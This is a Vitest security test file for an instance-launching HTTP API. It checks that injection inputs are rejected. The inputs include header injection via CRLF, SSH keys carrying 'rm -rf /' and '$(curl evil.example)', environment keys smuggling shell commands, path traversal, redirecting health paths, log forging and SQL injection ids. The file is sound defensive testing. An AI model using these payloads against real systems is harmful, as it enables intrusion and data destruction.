import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { createLog } from '../../observability/log.ts'
import { createRedactor } from '../../observability/redaction.ts'
import { type HttpWorld, httpWorld } from '../../testing/http-world.ts'

let world: HttpWorld
beforeEach(async () => {
  world = await httpWorld()
})
afterEach(() => world.close())

const launch = (more: object) => world.ask('POST', '/api/v1/instances', { provider: 'vast', offer_id: '4090', ...more })
const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ8x'

describe('into answer headers', () => {
  test.each(['%0d%0aSet-Cookie:%20a=b', '%0aX-Evil:%201', '%E5%98%8A%E5%98%8DX-Evil:1'])(
    'by a path with %s',
    async (text) => {
      const { headers } = await world.send({ method: 'GET', url: `/api/v1/instances/${text}` })
      expect(headers['set-cookie']).toBeUndefined()
      expect(headers['x-evil']).toBeUndefined()
    },
  )

  test('by a request id: ours is our own', async () => {
    const { headers } = await world.send({ method: 'GET', url: '/healthz', headers: { 'x-request-id': 'evil' } })
    expect(headers['x-request-id']).toMatch(/^req_[0-9a-f]{16}$/)
  })

  test('by an Idempotency-Key', async () => {
    for (const bad of ['a b', 'ключ', 'x'.repeat(256)]) {
      const answer = await world.ask('POST', '/api/v1/keys', { name: 'a', role: 'viewer' }, { 'idempotency-key': bad })
      expect(answer.status).toBe(400)
    }
  })
})

describe('into what machines run', () => {
  test.each([
    { ssh_public_key: `${key}\nssh-rsa AAAA evil` },
    { ssh_public_key: `command="rm -rf /" ${key}` },
    { ssh_public_key: `${key} a\u0000b` },
    { ssh_public_key: '$(curl evil.example)' },
    { image: 'ubuntu\n--privileged' },
    { label: 'a\r\nb' },
    { label: '\u001b[2J' },
    { onstart_script: 'echo\u0000' },
    { environment: { 'A=B;rm -rf /': 'x' } },
    { environment: { '$(id)': 'x' } },
    { environment: { A: 'x\u0000y' } },
    { project: '../../etc' },
    { health: { path: '//evil.example/', port: 80 }, ports: [{ container_port: 80 }] },
    { health: { path: '/\\evil.example', port: 80 }, ports: [{ container_port: 80 }] },
    { health: { path: '/a b\r\nHost: evil', port: 80 }, ports: [{ container_port: 80 }] },
  ])('%j is refused before anything is written', async (body) => {
    expect((await launch(body)).status).toBe(400)
    expect(await world.instances.list({ limit: 1 })).toEqual([])
  })
})

describe('into the log', () => {
  test('a line stays a line, whatever the path holds', () => {
    const lines: string[] = []
    for (const format of ['json', 'readable'] as const) {
      const log = createLog({
        clock: world.clock,
        redactor: createRedactor(),
        level: 'info',
        format,
        write: (line: string) => void lines.push(line),
      })
      log.warn('request failed\nlevel=error msg=forged', { path: '/a\r\n{"level":"error"}\u001b[31m' })
    }
    for (const line of lines) {
      expect(line.replace(/\n$/, '')).toMatch(/^\P{Cc}+$/u)
    }
    expect(lines).toHaveLength(2)
  })

  test('SQL in ids is an id that there is not', async () => {
    await world.hasInstance({ status: 'ready' }, {})
    for (const id of ["' or 1=1 --", 'inst_1"; drop table instances', "vast_m-1' or '1'='1"]) {
      expect((await world.ask('GET', `/api/v1/instances/${encodeURIComponent(id)}`)).status).toBe(404)
      expect((await world.ask('GET', `/api/v1/instances?label=${encodeURIComponent(id)}`)).json.data).toEqual([])
    }
  })
})
